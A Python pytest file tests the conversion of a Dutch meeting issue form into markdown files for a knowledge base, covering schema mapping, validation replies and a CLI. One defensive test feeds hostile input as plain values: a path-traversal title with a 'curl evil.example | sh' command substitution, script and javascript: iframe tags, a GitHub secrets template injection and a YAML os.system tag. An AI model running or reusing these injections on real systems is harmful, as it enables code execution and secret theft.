"""From a filled-in meeting issue form to bijeenkomsten/<slug>.md: the form, mapping, the real check, replies."""
from __future__ import annotations

import datetime as dt
import os
import shutil
import subprocess
import sys
from pathlib import Path

import yaml
from kennisbank.entries import meetings
from kennisbank.entries.frontmatter import parse
from kennisbank.entries.themes import themas
from kennisbank.submission import issue_form as issueform
from kennisbank.submission import meeting_issue

REPO = Path(__file__).resolve().parents[1]
ISSUES = Path(__file__).resolve().parent / "fixtures" / "issues"
INITIATIVE = Path(__file__).resolve().parent / "fixtures" / "site" / "initiatives" / "zeeland" / "menukaart-vlissingen.md"
TODAY = dt.date(2026, 6, 1)


def body(name: str) -> str:
    return (ISSUES / f"{name}.md").read_text(encoding="utf-8")


def project(tmp_path: Path) -> Path:
    """A project folder with one initiative (the one the meeting names) and an empty bijeenkomsten/."""
    target = tmp_path / "initiatives" / "zeeland" / INITIATIVE.name
    target.parent.mkdir(parents=True)
    shutil.copy(INITIATIVE, target)
    (tmp_path / "bijeenkomsten").mkdir()
    return tmp_path


def run_cli(cwd: Path, *args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "kennisbank.cli", *args], cwd=cwd, capture_output=True, text=True, timeout=120,
                          env={**os.environ, "NO_MKDOCS_2_WARNING": "1"})


# ---------- the issue form, generated from the meeting schema ----------

def test_issue_template_is_generated_from_the_meeting_schema() -> None:
    path = REPO / ".github" / "ISSUE_TEMPLATE" / "bijeenkomst.yml"
    assert path.read_text(encoding="utf-8") == meeting_issue.issue_template(), "regenerate: python -m kennisbank.submission.meeting_issue"


def test_issue_template_asks_every_field_of_the_meeting_schema() -> None:
    form = yaml.safe_load((REPO / ".github" / "ISSUE_TEMPLATE" / "bijeenkomst.yml").read_text(encoding="utf-8"))
    by_id = {item["id"]: item for item in form["body"] if "id" in item}
    rules = meetings.meeting_schema()
    asked = set(rules["properties"]) - set(meeting_issue.NOT_ASKED)
    assert set(by_id) == asked | {issueform.section_id(t) for t in meeting_issue.MEETING_SECTIONS} | {issueform.CONSENT_ID}
    for name in asked:
        assert by_id[name]["attributes"]["label"] == rules["properties"][name]["title"]
        assert by_id[name]["validations"]["required"] == (name in rules["required"])
    assert by_id["themas"]["attributes"]["options"] == [t.label for t in themas()]
    assert by_id["online"]["type"] == "dropdown" and by_id["online"]["attributes"]["options"] == ["Ja", "Nee"]
    assert by_id["initiatieven"]["type"] == "textarea"
    assert "landelijk" not in by_id["gemeente"]["attributes"]["description"], "the initiative form's help does not apply"
    assert form["labels"] == [meeting_issue.LABEL]
    workflow = (REPO / ".github" / "workflows" / "initiatief-uit-issue.yml").read_text(encoding="utf-8")
    assert f"'{meeting_issue.LABEL}'" in workflow and "--bijeenkomst --output-dir bijeenkomsten" in workflow


# ---------- reading a filled-in issue ----------

def test_meeting_issue_maps_onto_the_front_matter() -> None:
    conversion = meeting_issue.convert(body("bijeenkomst"), TODAY)
    assert conversion.path == "bijeenkomsten/open-dag-menukaart-vlissingen.md"
    matter = parse(conversion.text.encode("utf-8"))
    assert matter.values == {
        "titel": "Open dag Menukaart Vlissingen",
        "samenvatting": "Bewoners en ambtenaren laten zien hoe de Menukaart werkt, met een rondleiding langs de projecten.",
        "datum": "2030-03-14",
        "begintijd": "19:30",
        "eindtijd": "21:30",
        "gemeente": "Vlissingen",
        "online": "true",  # the strict loader keeps it as text; the meeting check reads it as true
        "locatie": "Wijkcentrum De Zeester, Badhuisstraat 1, Vlissingen",
        "organisator": "Stichting Menukaart Vlissingen",
        "initiatieven": ["menukaart-vlissingen"],
        "themas": ["democratie", "openbare-ruimte"],
        "aanmelden": "https://menukaart.example.nl/open-dag",
        "bijgewerkt": "2026-06-01",
    }
    assert "\nonline: true\n" in conversion.text
    assert matter.body.lstrip("\n") == "## Programma\n\n- 19:30 inloop met koffie\n- 20:00 rondleiding\n"


def test_no_online_leaves_the_key_out() -> None:
    text = body("bijeenkomst").replace("### Online\n\nJa", "### Online\n\nNee")
    assert "online" not in parse(meeting_issue.convert(text, TODAY).text.encode("utf-8")).values


def test_valid_meeting_issue_becomes_a_file_the_real_check_accepts(tmp_path: Path) -> None:
    root = project(tmp_path)
    outcome = meeting_issue.submit(body("bijeenkomst"), root / "bijeenkomsten", TODAY)
    assert outcome.ok and not outcome.messages, outcome.messages
    assert outcome.target == root / "bijeenkomsten" / "open-dag-menukaart-vlissingen.md"
    result = meetings.check_meetings([root / "bijeenkomsten"], meetings.initiative_slugs(root / "initiatives"))
    assert not result.messages and [m.slug for m in result.meetings] == ["open-dag-menukaart-vlissingen"]
    meeting = result.meetings[0]
    assert meeting.online and meeting.gemeente is not None and meeting.gemeente.naam_gangbaar == "Vlissingen"
    assert meeting.start == dt.datetime(2030, 3, 14, 19, 30) and meeting.initiatieven == ("menukaart-vlissingen",)


def test_invalid_meeting_issue_gets_the_checks_messages_and_no_file(tmp_path: Path) -> None:
    root = project(tmp_path)
    outcome = meeting_issue.submit(body("bijeenkomst-fouten"), root / "bijeenkomsten", TODAY)
    assert not outcome.ok and not outcome.target.exists()
    texts = {m.field: m.text for m in outcome.messages}
    assert texts == {
        "eindtijd": "eindtijd '18:00' ligt niet na de begintijd 19:30",
        "gemeente": "vul een gemeente in, of zet online: true voor een bijeenkomst die alleen online is",
        "initiatieven": "onbekend initiatief 'menukaart-vlisingen'; bedoelde u 'menukaart-vlissingen'? "
                        "Gebruik de bestandsnaam zonder .md van een initiatief in initiatives/",
    }
    reply = meeting_issue.comment(outcome)
    assert "Eindtijd: eindtijd '18:00' ligt niet na de begintijd 19:30" in reply
    assert "Initiatieven: onbekend initiatief 'menukaart-vlisingen'" in reply


def test_hostile_meeting_issue_arrives_as_plain_values(tmp_path: Path) -> None:
    root = project(tmp_path)
    outcome = meeting_issue.submit(body("bijeenkomst-kwaadaardig"), root / "bijeenkomsten", TODAY)
    assert outcome.ok, outcome.messages
    # The title cannot choose the path: only the slug of it ends up there.
    assert outcome.target.parent == root / "bijeenkomsten"
    assert outcome.target.name == "github-workflows-x-curl-evil-example-sh-id-exit-1.md"
    values = parse(outcome.target.read_bytes()).values
    assert values["titel"] == '../../.github/workflows/x $(curl evil.example | sh) `id` "; exit 1; #'
    assert values["organisator"] == '<script>alert("org")</script> & ${{ secrets.GITHUB_TOKEN }}'
    assert values["locatie"] == "no: yes\nonline: false\n--- &anker *alias !!python/object:os.system [x] {y} # niet echt"
    assert values["online"] == "true" and values["eindtijd"] == "21:30", "text typed in an answer stays in that answer"
    assert "<iframe src=javascript:alert(3)></iframe>\n\n### Eindtijd\n\n23:59" in parse(outcome.target.read_bytes()).body


def test_an_existing_meeting_file_is_never_overwritten(tmp_path: Path) -> None:
    root = project(tmp_path)
    first = meeting_issue.submit(body("bijeenkomst"), root / "bijeenkomsten", TODAY)
    before = first.target.read_bytes()
    again = meeting_issue.submit(body("bijeenkomst"), root / "bijeenkomsten", dt.date(2026, 7, 1))
    assert not again.ok
    assert again.messages[0].text.startswith("er staat al een bijeenkomst in 'bijeenkomsten/open-dag-menukaart-vlissingen.md'")
    assert first.target.read_bytes() == before


def test_oversized_answer_is_refused_with_a_reply(tmp_path: Path) -> None:
    root = project(tmp_path)
    text = body("bijeenkomst").replace("Stichting Menukaart Vlissingen", "x" * 20_000)
    outcome = meeting_issue.submit(text, root / "bijeenkomsten", TODAY)
    assert not outcome.ok and not any((root / "bijeenkomsten").iterdir())
    assert [(m.field, m.text) for m in outcome.messages] == [("organisator", "mag hoogstens 10000 tekens lang zijn; nu 20000")]


# ---------- the workflow's command ----------

def test_cli_van_issue_bijeenkomst_writes_outputs_for_the_workflow(tmp_path: Path) -> None:
    root = project(tmp_path)
    outputs = root / "outputs"
    result = run_cli(root, "van-issue", "--bijeenkomst", "--output-dir", "bijeenkomsten", "--body-file", str(ISSUES / "bijeenkomst.md"),
                     "--github-output", str(outputs), "--datum", "2026-06-01")
    assert result.returncode == 0, result.stderr
    assert outputs.read_text(encoding="utf-8") == "valid=true\npath=bijeenkomsten/open-dag-menukaart-vlissingen.md\n"
    check = run_cli(root, "check", "bijeenkomsten/open-dag-menukaart-vlissingen.md")
    assert check.returncode == 0, check.stdout
    assert run_cli(root, "check").returncode == 0


def test_cli_van_issue_bijeenkomst_writes_the_reply_when_invalid(tmp_path: Path) -> None:
    root = project(tmp_path)
    outputs, reply = root / "outputs", root / "reactie.md"
    result = run_cli(root, "van-issue", "--bijeenkomst", "--body-file", str(ISSUES / "bijeenkomst-fouten.md"),
                     "--comment-file", str(reply), "--github-output", str(outputs))
    assert result.returncode == 1
    assert outputs.read_text(encoding="utf-8") == "valid=false\npath=\n"
    assert "Eindtijd: eindtijd '18:00' ligt niet na de begintijd 19:30" in reply.read_text(encoding="utf-8")
    assert not any((root / "bijeenkomsten").iterdir())
